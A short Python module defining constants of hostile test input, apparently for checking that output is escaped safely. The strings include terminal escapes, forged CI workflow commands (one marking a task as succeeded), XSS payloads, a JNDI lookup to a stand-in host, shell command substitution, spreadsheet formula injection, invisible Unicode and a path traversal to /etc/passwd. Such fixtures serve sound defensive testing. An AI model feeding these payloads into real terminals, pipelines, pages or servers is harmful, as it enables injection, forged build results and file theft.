"""Text that does harm where it is taken for something else."""

from __future__ import annotations

from typing import Final

NASTY: Final = "".join(
    (
        "\x00\x1b[2J\x1b]0;hostile\x07\x9b31m\x7f\r\n",  # a terminal: cleared, titled, coloured
        "::error::hostile\n::set-output name=a::b\n::add-mask::x\n",  # GitHub's runner
        "##teamcity[buildProblem description='hostile']\n##vso[task.complete result=Succeeded;]\n##[error]hostile\n",
        "\r::warning::hostile\n \t::notice::hostile\n",
        "<script>alert('hostile')</script><img src=x onerror=alert('hostile')>",  # a page
        "<!-- --><![CDATA[ ]]> &hostile; <?xml?> '\"",  # XML
        "\n# hostile\n[hostile](javascript:alert(1)) ![hostile](http://hostile.example/x.png) | ` ``` **\n",  # Markdown
        "{{7*7}} ${jndi:ldap://hostile.example} $(touch hostile) `touch hostile` =cmd|'/c hostile'!A1",  # templates
        "\u202e\u2066\u200b\ufeff\u2028\u2029\x85\ud800\udc00\ufffe",  # what turns, hides and breaks lines
    )
)

PATHS: Final = "../../../../etc/passwd\\..\\..\\hostile/.././%2e%2e/hostile"
